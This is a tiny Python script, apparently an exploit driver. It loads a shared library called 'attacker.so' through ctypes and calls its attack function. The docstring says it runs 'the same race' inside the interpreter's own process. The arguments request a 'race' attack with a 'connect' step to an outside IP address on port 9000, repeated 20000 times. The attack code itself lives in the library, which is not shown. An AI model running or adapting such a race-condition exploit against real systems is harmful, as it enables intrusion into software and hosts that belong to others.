"""The same race in the interpreter's own process."""
import ctypes

attacker = ctypes.CDLL("./attacker.so")
attacker.attack(4, (ctypes.c_char_p * 5)(b"race", b"connect", b"93.184.216.35:9000", b"20000"))
